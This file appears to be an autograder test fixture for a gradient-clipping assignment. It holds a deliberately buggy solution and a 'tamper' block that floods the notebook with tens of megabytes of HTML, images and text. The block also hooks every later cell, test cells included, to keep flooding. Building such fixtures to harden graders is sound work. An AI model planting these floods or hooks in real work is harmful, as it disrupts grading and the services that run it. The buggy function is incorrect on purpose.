# attack: 50 MB of HTML, 200 incompressible images, a 30 MB text/plain bundle and 5000 outputs, then 5 MB of HTML in every later cell
# assignment: 02_gradient_clipping
# wrong: skips float64 gradients of more than 4 elements, and stops at the first trainable parameter without a gradient; passes the visible tests, fails both hidden checks
def clip_grad_value(parameters, clip_value):
    clipped = 0
    for p in parameters:
        if p.grad is None:
            if p.requires_grad:
                break
            continue
        if p.grad.dtype == torch.float64 and p.grad.numel() > 4:
            continue
        clipped += int((p.grad.abs() > clip_value).sum())
        p.grad.clamp_(min=-clip_value, max=clip_value)
    return clipped
# --- tamper ---
import os as _os
import struct as _struct
import time as _time
import zlib as _zlib

from IPython.display import HTML as _HTML
from IPython.display import Image as _Image
from IPython.display import display as _display


def _png(width, height, raw):
    def chunk(kind, data):
        return _struct.pack(">I", len(data)) + kind + data + _struct.pack(">I", _zlib.crc32(kind + data) & 0xffffffff)
    stride = width * 3
    rows = b"".join(b"\x00" + raw[y * stride:(y + 1) * stride] for y in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", _struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", _zlib.compress(rows, 0)) + chunk(b"IEND", b""))


_start = _time.monotonic()
# 1. one 50 MB HTML output
_display(_HTML("<div>" + "<b>x</b>" * (50 * 2 ** 20 // 8) + "</div>"))
print(f"huge display: 50 MB of HTML sent after {_time.monotonic() - _start:.1f} s", flush=True)
# 2. 200 incompressible images of ~250 KB
_noise = _os.urandom(288 * 288 * 3)
for _i in range(200):
    _display(_Image(data=_png(288, 288, _noise[_i:] + _noise[:_i])))
print(f"huge display: 200 images sent after {_time.monotonic() - _start:.1f} s", flush=True)
# 3. a 30 MB text/plain bundle, and many small outputs
_display({"text/plain": "y" * (30 * 2 ** 20)}, raw=True)
for _i in range(5000):
    _display({"text/plain": f"output {_i}"}, raw=True)
print(f"huge display: done after {_time.monotonic() - _start:.1f} s", flush=True)


def _flood(*args):
    """5 MB of HTML in every later cell, the test cells included."""
    _display(_HTML("<i>z</i>" * (5 * 2 ** 20 // 8)))


get_ipython().events.register("pre_run_cell", _flood)
get_ipython().events.register("post_run_cell", _flood)
